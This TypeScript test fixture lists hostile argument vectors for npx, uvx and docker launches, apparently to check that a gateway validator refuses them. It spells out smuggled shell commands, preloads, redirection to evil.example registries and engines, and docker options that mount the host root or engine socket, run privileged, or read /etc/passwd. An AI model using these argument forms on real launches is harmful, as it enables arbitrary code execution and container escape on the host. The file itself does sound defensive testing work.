import type { Launch } from "../../../shared/run-contract/contract.ts";

/** One command line that would run other code, or reach the machine. */
export interface ArgvAttack {
  readonly what: string;
  readonly command: "npx" | "uvx" | "docker";
  readonly args: readonly string[];
  /** The rule by which the validator refuses it. */
  readonly rule: "GW203" | "GW208" | "GW209";
  /** What an edge that reads it wrongly would ask the host to start. */
  readonly launch: Partial<Launch>;
}

const touch = "touch TRAP";
const image = `good/image@sha256:${"0".repeat(64)}`;

type Row = readonly [what: string, args: readonly string[], launch: Partial<Launch>];

const npx: readonly Row[] = [
  ["a command as option", ["-c", touch], { package: "-c", version: null, args: [touch] }],
  ["a command by =", [`--call=${touch}`], { package: `--call=${touch}`, version: null }],
  ["a command in a cluster", ["-yc", touch], { package: "-yc", version: null, args: [touch] }],
  ["a command behind a package", ["-p", "good", "-c", touch], { package: "good", bin: "-c" }],
  ["another shell", ["--script-shell=TRAP", "good"], { package: "--script-shell=TRAP" }],
  ["npx's own name for it", ["--shell", "TRAP", "good"], { package: "--shell", args: ["TRAP"] }],
  ["a preload", ["--node-options=--require TRAP", "good"], { package: "--node-options=x" }],
  ["a settings file", ["--userconfig", "TRAP", "good"], { package: "--userconfig" }],
  ["a settings folder", ["--prefix=TRAP", "good"], { package: "--prefix=TRAP" }],
  ["a program for git", ["--git=TRAP", "git+ssh://x/y"], { package: "git+ssh://x/y" }],
  ["another registry", ["--registry=https://evil.example", "good"], { package: "--registry=x" }],
  ["scripts", ["--ignore-scripts=false", "good"], { package: "--ignore-scripts=false" }],
  ["an alias", ["-y", "good@npm:evil@1.0.0"], { package: "good", version: "npm:evil@1.0.0" }],
  ["a nameless alias", ["-y", "npm:evil@1.0.0"], { package: "npm:evil", version: "1.0.0" }],
  ["a folder", ["-y", "./evil"], { package: "./evil", version: null }],
  ["a folder by URL", ["-y", "file:evil"], { package: "file:evil", version: null }],
  ["a repository", ["-y", "evil/evil"], { package: "evil/evil", version: null }],
  ["a tarball", ["-y", "https://evil.example/x.tgz"], { package: "https://evil.example/x.tgz" }],
  ["a tarball as version", ["-y", "good@https://x/y.tgz"], { version: "https://x/y.tgz" }],
  ["a path as program", ["-p", "good", "../../TRAP"], { bin: "../../TRAP" }],
];
const npxPrograms: readonly Row[] = [
  ["a shell", ["-y", "-p", "good", "--", "sh", "-c", touch], { bin: "sh", args: ["-c", touch] }],
  ["a shell in capitals", ["-p", "good", "BASH"], { bin: "BASH", args: ["-c", touch] }],
  ["node", ["-p", "good", "node", "-e", "1"], { bin: "node", args: ["-e", "1"] }],
  ["npx again", ["-p", "good", "npx", "-c", touch], { bin: "npx", args: ["-c", touch] }],
  ["node as package", ["-y", "node@24.0.0", "-e", "1"], { package: "node", version: "24.0.0" }],
];
const uvx: readonly Row[] = [
  ["code from a repository", ["--from", "git+https://x/y", "y"], { package: "git+https://x/y" }],
  ["code from a URL", ["--from=https://x/y.whl", "y"], { package: "https://x/y.whl" }],
  ["code from a folder", ["./evil"], { package: "./evil", version: null }],
  ["a direct reference", ["good@git+https://x/y"], { version: "git+https://x/y" }],
  ["a package beside", ["--with", "evil", "good"], { extras: ["--with", "evil"] }],
  ["another index", ["--index-url", "https://evil.example", "good"], { package: "--index-url" }],
  ["a folder of wheels", ["--find-links=TRAP", "good"], { package: "--find-links=TRAP" }],
  ["another Python", ["--python", "TRAP", "good"], { package: "--python", args: ["TRAP"] }],
  ["a settings file", ["--config-file", "TRAP", "good"], { package: "--config-file" }],
  ["an env file", ["--env-file=TRAP", "good"], { package: "--env-file=TRAP" }],
  ["a program that asks for keys", ["--keyring-provider=subprocess", "good"], { package: "-k" }],
];
const uvxPrograms: readonly Row[] = [
  ["a shell", ["--from", "good", "bash", "-c", touch], { bin: "bash", args: ["-c", touch] }],
  ["Python", ["--from=good", "python3.13", "-c", "1"], { bin: "python3.13" }],
  ["Python as package", ["python@3.13", "-c", "1"], { package: "python", version: "3.13" }],
];
const docker: readonly Row[] = [
  ["all privileges", ["run", "--privileged", image], { package: "--privileged", version: null }],
  ["the machine's files", ["run", "-v", "/:/host", image], { volumes: [volume("/", "/host")] }],
  [
    "the machine's files as mount",
    ["run", "--mount=type=bind,src=/etc,dst=/x", image],
    { volumes: [volume("/etc", "/x")] },
  ],
  [
    "the engine's socket",
    ["run", "-v", "/var/run/docker.sock:/s", image],
    { volumes: [volume("/var/run/docker.sock", "/s")] },
  ],
  ["the engine by option", ["run", "--use-api-socket", image], { package: "--use-api-socket" }],
  ["the machine's network", ["run", "--network=host", image], { package: "--network=host" }],
  ["the machine's processes", ["run", "--pid", "host", image], { package: "--pid" }],
  ["a device", ["run", "--device=/dev/mem", image], { package: "--device=/dev/mem" }],
  ["another program", ["run", "--entrypoint", "sh", image], { bin: "sh" }],
  ["a file of variables", ["run", "--env-file", "/etc/passwd", image], { package: "--env-file" }],
  ["another engine", ["-H", "tcp://evil.example:2375", "run", image], { package: "-H" }],
  ["another command", ["build", "."], { package: "build", version: "../x" }],
  [
    "a registry on a private address",
    ["run", "10.0.0.1/x"],
    { package: "10.0.0.1/x", version: null },
  ],
];

function volume(source: string, target: string) {
  return { source, target, read_only: false };
}

export const argvAttacks: readonly ArgvAttack[] = [
  ...npx.map(attackBy("npx", "GW203")),
  ...npxPrograms.map(attackBy("npx", "GW208")),
  ...uvx.map(attackBy("uvx", "GW203")),
  ...uvxPrograms.map(attackBy("uvx", "GW208")),
  ...docker.map(attackBy("docker", "GW203")),
];

function attackBy(command: ArgvAttack["command"], rule: ArgvAttack["rule"]) {
  return ([what, args, launch]: Row): ArgvAttack => {
    const name = command === "docker" ? "good/image" : "good";
    const started = { runner: command, package: name, ...launch };
    return { what, command, args, rule, launch: started };
  };
}
